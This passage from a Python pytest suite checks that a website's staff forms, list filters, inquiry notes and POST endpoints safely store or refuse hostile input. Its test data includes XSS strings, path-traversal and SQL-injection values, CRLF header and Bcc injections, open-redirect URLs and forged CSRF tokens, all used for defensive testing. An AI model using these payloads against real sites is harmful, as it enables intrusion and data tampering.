    body = response.get_data(as_text=True)
    assert_not_rendered_raw(body, data["email"], data["email"] if answer == 422 else None)
    assert_not_rendered_raw(body, next_)
    assert "X-Injected" not in response.headers
    if answer == 303:
        location = response.headers["Location"]
        assert location.startswith("/") and not location.startswith(("//", "/\\"))
        assert "evil.example" not in location and "\r" not in location and "\n" not in location
        assert "javascript" not in location.lower()
    assert db.session.scalar(select(func.count()).select_from(StaffUser)) == staff_before


# --- Staff: the main forms ------------------------------------------------------------------

EVENT_FORM = {
    "title": "OpenInfra Days Hamburg",
    "slug": "hamburg",
    "kind": "openinfra_days",
    "format": "in_person",
    "summary": "A day in Hamburg.",
    "description": "Talks and **workshops**.",
    "starts_on": "2025-09-05",
    "ends_on": "2025-09-05",
    "start_time": "",
    "end_time": "",
    "timezone": "Europe/Berlin",
    "venue": "",
    "city": "Hamburg",
    "country": "DE",
    "register-state": "open",
    "register-url": "https://example.org/register",
    "register-deadline": "",
    "sponsor-state": "",
    "schedule-state": "",
    "cfp-state": "",
}


def event_value(event: Event, field: str):
    if field.endswith("-url"):
        link = event.link(LinkKind(field.removesuffix("-url")))
        return link.url if link else None
    return getattr(event, field)


# Each staff form: its page, a complete valid post, the model it creates, how to read a field
# back, and the pages that show what was saved (`{id}` is the new row's).
STAFF_FORMS = {
    "event": SimpleNamespace(
        path="/staff/events/new",
        data=EVENT_FORM,
        model=Event,
        value=event_value,
        shows=("/staff/events/{id}/edit", "/staff/events/", "/staff/events/{id}/preview"),
    ),
    "project": SimpleNamespace(
        path="/staff/projects/new",
        data={"name": "Kata Containers", "slug": "kata", "url": "", "position": "0"},
        model=Project,
        value=getattr,
        shows=("/staff/projects/{id}/edit", "/staff/projects/", "/events"),
    ),
    "tier": SimpleNamespace(
        path="/staff/tiers/new",
        data={
            "name": "Platinum",
            "slug": "platinum",
            "summary": "",
            "benefits": "",
            "annual_fee": "",
            "currency": "USD",
            "position": "0",
        },
        model=MembershipTier,
        value=getattr,
        shows=("/staff/tiers/{id}/edit", "/staff/tiers/", "/membership"),
    ),
    "contact": SimpleNamespace(
        path="/staff/contacts/new",
        data={"name": "Sam Sales", "email": "sales@example.org", "team": "Sales"},
        model=StaffContact,
        value=getattr,
        shows=("/staff/contacts/{id}/edit", "/staff/contacts/", "/staff/routing/new"),
    ),
}

SAME = object()  # stored as typed, stripped
# Fields a refused form does not show back as typed: selects, and codes it upper-cases.
NOT_ECHOED = {"kind", "format", "country", "timezone", "currency", "project_ids"}  # selects


def staff(form, field, payload, answer, stored=SAME, marks=(), name=""):
    return pytest.param(
        form, field, payload, answer, stored, marks=marks, id=f"{form}-{field}-{name}"
    )


STAFF_CASES = [
    staff("event", "title", SCRIPT, 303, name="script"),
    staff("event", "title", ATTR, 303, name="attribute"),
    staff("event", "title", "  " + SCRIPT + "  ", 303, name="script-padded"),
    staff("event", "title", B_WORD, 303, name="rfc2047-b"),
    staff("event", "title", SQL_DROP, 303, name="sql"),
    staff("event", "title", CRLF, 422, name="crlf"),
    staff("event", "title", LINE_SEPARATOR, 422, name="line-separator"),
    staff("event", "title", ZWSP, 422, name="zwsp"),
    staff("event", "title", RLO, 422, name="rlo"),
    staff("event", "title", NUL, 400, name="nul"),
    staff("event", "title", LONGER, 422, name="100k"),
    staff("event", "title", "   ", 422, name="blank"),
    staff("event", "slug", "../etc/passwd", 422, name="dots"),
    staff("event", "slug", "%2e%2e%2f", 422, name="encoded-dots"),
    staff("event", "slug", "hamburg\x00", 400, name="nul"),
    staff("event", "slug", SCRIPT, 422, name="script"),
    staff("event", "slug", "berlin", 422, name="taken"),
    staff("event", "summary", SCRIPT, 303, name="script"),
    staff("event", "summary", CLOSE_SCRIPT, 303, name="close-json-ld"),
    staff("event", "summary", "One line.\r\nAnother line.", 303, name="crlf"),
    staff("event", "description", "[click](javascript:alert(1))", 303, name="md-javascript"),
    staff("event", "description", "[x](data:text/html;base64,PHNjcmlwdD4=)", 303, name="md-data"),
    staff("event", "description", '![x](x" onerror="alert(1))', 303, name="md-img-attribute"),
    staff("event", "description", '<a href="javascript:alert(1)">x</a>', 303, name="raw-a-href"),
    staff("event", "description", CLOSE_TEXTAREA, 303, name="close-textarea"),
    staff("event", "description", LONGER, 422, name="100k"),
    staff("event", "timezone", "../../etc/passwd", 422, name="dots"),
    staff("event", "timezone", SCRIPT, 422, name="script"),
    staff("event", "city", ATTR, 303, name="attribute"),
    staff("event", "city", CRLF, 422, name="crlf"),
    staff("event", "venue", IMG, 303, name="img-onerror"),
    staff("event", "country", SCRIPT, 422, name="script"),
    staff("event", "country", "de", 303, "DE", name="lower"),
    staff("event", "country", "D\u200b", 422, name="zwsp"),
    staff("event", "register-url", "javascript:alert(1)", 422, name="javascript"),
    staff("event", "register-url", "java\tscript:alert(1)", 422, name="javascript-tab"),
    staff("event", "register-url", "data:text/html,<script>alert(1)</script>", 422, name="data"),
    staff("event", "register-url", "//evil.example/x", 422, name="protocol-relative"),
    staff("event", "register-url", "https://example.org/\r\nX: y", 422, name="crlf"),
    staff(
        "event", "register-url", 'https://example.org/"onmouseover="alert(1)', 303, name="attribute"
    ),
    staff(
        "event", "register-url", "https://example.org/<script>alert(1)</script>", 303, name="script"
    ),
    staff("event", "register-url", "/events/berlin/sponsor", 303, name="site-path"),
    staff("event", "colocated_url", "javascript:alert(1)", 422, name="javascript"),
    staff("event", "contact_email", "a@example.org\r\nBcc: b@example.org", 422, name="crlf"),
    staff("event", "latitude", "NaN", 422, name="nan"),
    staff("event", "starts_on", "2025-02-30", 422, name="feb-30"),
    staff("event", "starts_on", "0000-01-01", 422, name="year-0"),
    staff("event", "ends_on", "9999-12-31", 422, name="year-9999"),
    staff("event", "start_time", "25:00", 422, name="hour-25"),
    staff("event", "register-deadline", "2025-06-01T99:99", 422, name="bad-time"),
    staff("event", "kind", SCRIPT, 422, name="script"),
    staff("event", "project_ids", "99999999999999999999", 422, name="huge"),
    staff("project", "name", SCRIPT, 303, name="script"),
    staff("project", "name", CRLF, 422, name="crlf"),
    staff("project", "name", RLO, 422, name="rlo"),
    staff("project", "slug", "../x", 422, name="dots"),
    staff("project", "url", "javascript:alert(1)", 422, name="javascript"),
    staff(
        "project", "url", 'https://example.org/"><script>alert(1)</script>', 303, name="break-out"
    ),
    staff("project", "position", "99999999999999999999", 422, name="huge"),
    staff("project", "position", "²", 422, name="superscript"),
    staff("tier", "name", SCRIPT, 303, name="script"),
    staff("tier", "name", Q_WORD, 303, name="rfc2047-q"),
    staff("tier", "name", CRLF, 422, name="crlf"),
    staff("tier", "summary", IMG, 303, name="img-onerror"),
    staff("tier", "benefits", SCRIPT + "\r\n" + ATTR, 303, name="script-lines"),
    staff("tier", "slug", SCRIPT, 422, name="script"),
    staff("tier", "annual_fee", "Infinity", 422, name="infinity"),
    staff("tier", "annual_fee", "NaN", 422, name="nan"),
    staff("tier", "annual_fee", "1E+999999999", 422, name="exponent"),
    staff("tier", "annual_fee", "١٠٠", 422, name="arabic-digits"),
    staff("tier", "annual_fee", "2500.50", 303, 250050, name="cents"),
    staff("tier", "currency", "usd", 303, "USD", name="lower"),
    staff("tier", "currency", "US\u200b", 422, name="zwsp"),
    staff("contact", "name", SCRIPT, 303, name="script"),
    staff("contact", "name", B_WORD, 303, name="rfc2047-b"),
    staff("contact", "email", "sales@example.org\r\nBcc: b@example.org", 422, name="crlf"),
    staff("contact", "email", Q_WORD, 422, name="rfc2047-q"),
    staff("contact", "email", SCRIPT, 422, name="script"),
    staff("contact", "email", "sales@bücher.de", 303, "sales@xn--bcher-kva.de", name="idn"),
    staff("contact", "email", "MEMBERS@example.org", 422, name="taken-upper"),
    staff("contact", "team", SCRIPT, 303, name="script"),
    staff("contact", "team", CRLF, 422, name="crlf"),
]


def post_form(client, csrf, form, field, payload):
    spec = STAFF_FORMS[form]
    data = {**spec.data, field: payload, "csrf_token": csrf(spec.path)}
    return client.post(spec.path, data=data)


@pytest.mark.parametrize(("form", "field", "payload", "answer", "stored"), STAFF_CASES)
def test_staff_forms_store_hostile_text_as_typed_and_show_it_inert(
    client, world, csrf, admin, form, field, payload, answer, stored
):
    spec = STAFF_FORMS[form]
    before = counts()
    response = post_form(client, csrf, form, field, payload)
    assert_no_5xx(response)
    assert response.status_code == answer
    expected = payload.strip() if stored is SAME else stored
    assert_stored_or_nothing(
        response,
        before,
        spec.model,
        lambda row: assert_equal(spec.value(row, field), expected),
    )
    if answer != 303:
        echoes = response.status_code == 422 and field not in NOT_ECHOED
        shown = payload.strip() if echoes else None
        assert_not_rendered_raw(response.get_data(as_text=True), payload, shown)
        return
    row = newest(spec.model)
    bodies = []
    for template in spec.shows:
        page = client.get(template.format(id=row.id))
        assert page.status_code == 200, template
        bodies.append(page.get_data(as_text=True))
        assert_not_rendered_raw(bodies[-1], payload)
    if isinstance(expected, str) and MARKUP & set(expected):
        assert any(str(escape(expected)) in body for body in bodies)
    assert_mail_is_ours()


def test_a_published_event_with_hostile_fields_is_inert_on_every_public_page(
    client, world, csrf, admin
):
    """The staff cases above look at the preview; the published event is on more pages."""
    response = client.post(
        "/staff/events/new",
        data={
            **EVENT_FORM,
            "title": SCRIPT,
            "summary": CLOSE_SCRIPT,
            "city": ATTR,
            "venue": IMG,
            "description": "[click](javascript:alert(1)) " + SCRIPT,
            "register-url": 'https://example.org/"onmouseover="alert(1)',
            "csrf_token": csrf("/staff/events/new"),
        },
    )
    assert response.status_code == 303
    event = newest(Event)
    token = csrf(f"/staff/events/{event.id}/edit")
    assert (
        client.post(f"/staff/events/{event.id}/publish", data={"csrf_token": token}).status_code
        == 303
    )
    for path in (
        "/",
        "/events",
        f"/events/{event.slug}",
        "/events/month/2025-09",
        "/events?q=alert",
    ):
        page = client.get(path)
        assert page.status_code == 200, path
        body = page.get_data(as_text=True)
        assert str(escape(SCRIPT)) in body, path
        for payload in (SCRIPT, CLOSE_SCRIPT, ATTR, IMG, 'example.org/"onmouseover="alert(1)'):
            assert_not_rendered_raw(body, payload)
    feed = client.get("/events.ics").get_data(as_text=True)
    assert not INJECTED_LINE.search(feed)


# Addresses staff may give a contact, then what a visitor meets when an inquiry is routed there.
CONTACT_ADDRESSES = [
    pytest.param("sales@example.org", id="plain"),
    pytest.param("sales@bücher.de", id="idn"),
    pytest.param("=?x?=@example.org", id="not-quite-encoded-word"),
    pytest.param(
        B_WORD + "@example.org", id="rfc2047-b-local-part",
    ),
]  # fmt: skip


@pytest.mark.parametrize("address", CONTACT_ADDRESSES)
def test_an_inquiry_routed_to_any_address_staff_may_save_is_answered(
    client, world, csrf, admin, submit, address
):
    data = {
        **STAFF_FORMS["contact"].data,
        "email": address,
        "csrf_token": csrf("/staff/contacts/new"),
    }
    saved = client.post("/staff/contacts/new", data=data)
    assert saved.status_code in (303, 422)
    if saved.status_code == 422:  # refused in words: then no inquiry can be routed there
        assert "cannot be written in an email" in saved.get_data(as_text=True)
        return
    contact = newest(StaffContact)
    rule = db.session.scalar(select(RoutingRule).where(RoutingRule.name == "Membership inquiries"))
    rule.contacts = [contact]
    db.session.commit()
    before = counts()
    response = submit("/membership", tier="gold")
    assert_no_5xx(response)
    assert response.status_code == 303
    assert counts()["Inquiry"] == before["Inquiry"] + 1
    assert_mail_is_ours()


# --- Staff: list filters --------------------------------------------------------------------

STAFF_GETS = [
    pytest.param("/staff/inquiries/", [("q", SCRIPT)], {200}, SCRIPT, True, id="inbox-q-script"),
    pytest.param("/staff/inquiries/", [("q", ATTR)], {200}, ATTR, True, id="inbox-q-attribute"),
    pytest.param("/staff/inquiries/", [("q", SQL)], {200}, SQL, True, id="inbox-q-sql"),
    pytest.param("/staff/inquiries/", [("q", CRLF)], {200}, None, False, id="inbox-q-crlf"),
    pytest.param("/staff/inquiries/", [("q", LONGER)], {200}, None, False, id="inbox-q-100k"),
    pytest.param("/staff/inquiries/", [("q", NUL)], {400}, None, False, id="inbox-q-nul"),
    pytest.param("/staff/inquiries/", [("q", "a"), ("q", "b")], {200}, None, False,
                 id="inbox-q-twice"),
    pytest.param("/staff/inquiries/", [("status", SCRIPT)], {200}, SCRIPT, False,
                 id="inbox-status-script"),
    pytest.param("/staff/inquiries/", [("status", "new"), ("status", "won")], {200}, None, False,
                 id="inbox-status-twice"),
    pytest.param("/staff/inquiries/", [("kind", SCRIPT)], {200}, SCRIPT, False, id="inbox-kind"),
    pytest.param("/staff/inquiries/", [("event", "99999999999999999999")], {200}, None, False,
                 id="inbox-event-huge"),
    pytest.param("/staff/inquiries/", [("event", "²")], {200}, None, False,
                 id="inbox-event-superscript"),
    pytest.param("/staff/inquiries/", [("page", "-1")], {200}, None, False,
                 id="inbox-page-negative"),
    pytest.param("/staff/inquiries/", [("page", "99999999999999999999")], {200}, None, False,
                 id="inbox-page-huge"),
    pytest.param("/staff/inquiries/", [("page", "²")], {200}, None, False,
                 id="inbox-page-superscript"),
    pytest.param("/staff/inquiries/", [("endpoint", "x"), ("_method", "POST")], {200}, None,
                 False, id="inbox-url-for-names"),
    pytest.param("/staff/inquiries/export.csv", [("q", SCRIPT), ("status", "x")], {200}, None,
                 False, id="export-hostile-filters"),
    pytest.param("/staff/inquiries/99999999999999999999", [], {404}, None, False,
                 id="inquiry-id-huge"),
    pytest.param("/staff/inquiries/%C2%B2", [], {404}, None, False, id="inquiry-id-superscript"),
    pytest.param("/staff/inquiries/1%00", [], {404}, None, False, id="inquiry-id-nul"),
    pytest.param("/staff/audit/", [("object_id", SCRIPT)], {200}, SCRIPT, False,
                 id="audit-object-id-script"),
    pytest.param("/staff/audit/", [("object_id", "99999999999999999999")], {200}, None, False,
                 id="audit-object-id-huge"),
    pytest.param("/staff/audit/", [("object_id", "1 OR 1=1")], {200}, None, False,
                 id="audit-object-id-sql"),
    pytest.param("/staff/audit/", [("object_id", NUL)], {400}, None, False,
                 id="audit-object-id-nul"),
    pytest.param("/staff/audit/", [("object_type", SCRIPT)], {200}, SCRIPT, False,
                 id="audit-object-type-script"),
    pytest.param("/staff/audit/", [("actor", ATTR)], {200}, ATTR, False, id="audit-actor-attr"),
    pytest.param("/staff/outbox/", [("show", SCRIPT)], {200}, SCRIPT, False,
                 id="outbox-show-script"),
    pytest.param("/staff/outbox/", [("show", "sent"), ("show", "failed")], {200}, None, False,
                 id="outbox-show-twice"),
    pytest.param("/staff/outbox/", [("page", "²")], {200}, None, False,
                 id="outbox-page-superscript"),
    pytest.param("/staff/events/", [("q", SCRIPT)], {200}, SCRIPT, True, id="events-q-script"),
    pytest.param("/staff/events/", [("status", SCRIPT)], {200}, SCRIPT, False,
                 id="events-status-script"),
    pytest.param("/staff/events/99999999999999999999/edit", [], {404}, None, False,
                 id="event-edit-id-huge"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "params", "allowed", "payload", "echoed"), STAFF_GETS)
def test_staff_lists_read_hostile_filters_without_failing(
    client, world, admin, path, params, allowed, payload, echoed
):
    before = counts()
    response = client.get(path, query_string=params)
    assert_no_5xx(response)
    assert response.status_code in allowed
    assert_not_rendered_raw(response.get_data(as_text=True), payload, payload if echoed else None)
    assert counts() == before


# --- Staff: an inquiry's note, status and assignee ------------------------------------------

# (path under the inquiry, fields, answer, what a 303 stores: the note's body)
INBOX_CASES = [
    pytest.param("notes", {"body": SCRIPT}, 303, SCRIPT, id="note-script"),
    pytest.param("notes", {"body": ATTR}, 303, ATTR, id="note-attribute"),
    pytest.param("notes", {"body": CLOSE_TEXTAREA}, 303, CLOSE_TEXTAREA, id="note-close-textarea"),
    pytest.param("notes", {"body": CRLF}, 303, "Eve\nBcc: victim@example.org", id="note-crlf"),
    pytest.param("notes", {"body": "  " + SQL + "  "}, 303, SQL, id="note-sql-padded"),
    pytest.param("notes", {"body": ZWSP}, 303, ZWSP, id="note-zwsp"),
    pytest.param("notes", {"body": "x" * 5000}, 303, "x" * 5000, id="note-5000"),
    pytest.param("notes", {"body": "x" * 5001}, 422, None, id="note-5001"),
    pytest.param("notes", {"body": "x\r\n" * 2500 + "x"}, 422, None, id="note-5001-after-crlf"),
    pytest.param("notes", {"body": LONGER}, 422, None, id="note-100k"),
    pytest.param("notes", {"body": "   "}, 422, None, id="note-blank"),
    pytest.param("notes", {"body": "\r\n" * 5000}, 422, None, id="note-only-line-breaks"),
    pytest.param("notes", {}, 422, None, id="note-missing"),
    pytest.param("notes", {"body": NUL}, 400, None, id="note-nul"),
    pytest.param("status", {"status": SCRIPT}, 422, None, id="status-script"),
    pytest.param("status", {"status": "won"}, 409, None, id="status-not-allowed-yet"),
    pytest.param("assign", {"assignee": SCRIPT}, 422, None, id="assign-script"),
    pytest.param("assign", {"assignee": "99999999999999999999"}, 422, None, id="assign-huge"),
    pytest.param("assign", {"assignee": "-1"}, 422, None, id="assign-negative"),
]  # fmt: skip


@pytest.mark.parametrize(("action", "fields", "answer", "stored"), INBOX_CASES)
def test_the_inbox_actions_refuse_or_store_exactly(
    client, csrf, admin, an_inquiry, action, fields, answer, stored
):
    path = f"/staff/inquiries/{an_inquiry}"
    before = counts()
    response = client.post(f"{path}/{action}", data={**fields, "csrf_token": csrf(path)})
    assert_no_5xx(response)
    assert response.status_code == answer
    if answer == 303:
        note = newest(InquiryNote)
        assert note.body == stored
        page = client.get(path).get_data(as_text=True)
        assert_not_rendered_raw(page, fields["body"], stored)
    elif answer == 409:
        assert counts() == before
    else:
        assert_stored_or_nothing(response, before)
        for value in fields.values():
            assert_not_rendered_raw(response.get_data(as_text=True), value)


# --- Every POST form without its CSRF token -------------------------------------------------

CSRF_CASES = [
    pytest.param("/membership", None, {"tier": "gold"}, id="membership"),
    pytest.param("/events/berlin/sponsor", None, {"package": "coffee"}, id="sponsor"),
    pytest.param("/staff/login", None, {"email": "a@example.org", "password": "x"}, id="login"),
    pytest.param("/staff/logout", "admin", {}, id="logout"),
    pytest.param("/staff/events/new", "editor", EVENT_FORM, id="staff-event-new"),
    pytest.param("/staff/events/{event}/edit", "editor", EVENT_FORM, id="staff-event-edit"),
    pytest.param("/staff/events/{event}/cancel", "editor", {}, id="staff-event-cancel"),
    pytest.param("/staff/events/{event}/duplicate", "editor", {}, id="staff-event-duplicate"),
    pytest.param("/staff/projects/new", "editor", STAFF_FORMS["project"].data, id="staff-project"),
    pytest.param("/staff/tiers/new", "editor", STAFF_FORMS["tier"].data, id="staff-tier"),
    pytest.param("/staff/tiers/{tier}/retire", "editor", {}, id="staff-tier-retire"),
    pytest.param("/staff/contacts/new", "admin", STAFF_FORMS["contact"].data, id="staff-contact"),
    pytest.param("/staff/members/new", "editor", {"name": "ACME", "tier": "1"}, id="staff-member"),
    pytest.param("/staff/routing/new", "admin", {"name": "R", "kind": "membership"},
                 id="staff-routing"),
    pytest.param("/staff/accounts/new", "admin",
                 {"email": "new@example.org", "name": "New", "role": "admin",
                  "password": "a long enough password", "confirm": "a long enough password"},
                 id="staff-account"),
    pytest.param("/staff/inquiries/{inquiry}/notes", "editor", {"body": "A note."},
                 id="inquiry-note"),
    pytest.param("/staff/inquiries/{inquiry}/status", "editor", {"status": "open"},
                 id="inquiry-status"),
    pytest.param("/staff/inquiries/{inquiry}/assign", "editor", {"assignee": ""},
                 id="inquiry-assign"),
    pytest.param("/staff/outbox/retry-failed", "editor", {}, id="outbox-retry-failed"),
]  # fmt: skip
# Every form without a token; the membership form also with forged ones.
CSRF_CASES = [
    *(pytest.param(*case.values, None, id=f"{case.id}-missing") for case in CSRF_CASES),
    *(
        pytest.param(*case.values, token, id=f"{case.id}-{name}")
        for case in CSRF_CASES
        if case.id == "membership"
        for name, token in (("empty", ""), ("script", SCRIPT), ("forged", "IjEyMyI.Zz.abc"))
    ),
]


@pytest.mark.parametrize(("path", "role", "data", "token"), CSRF_CASES)
def test_every_post_form_refuses_a_missing_or_forged_csrf_token(
    request, client, make_staff, login, world, path, role, data, token
):
    if "{inquiry}" in path:
        path = path.replace("{inquiry}", str(request.getfixturevalue("an_inquiry")))
    if role:
        assert login(make_staff(role)).status_code == 303
    path = path.format(event=world.berlin.id, tier=world.gold.id)
    if token is not None:
        data = {**data, "csrf_token": token}
    before = counts()
    response = client.post(path, data=data)
    assert response.status_code == 400
    assert_not_rendered_raw(response.get_data(as_text=True), token)
    assert counts() == before
    if role:  # still signed in: the forged logout did nothing
        assert client.get("/staff/").status_code == 200
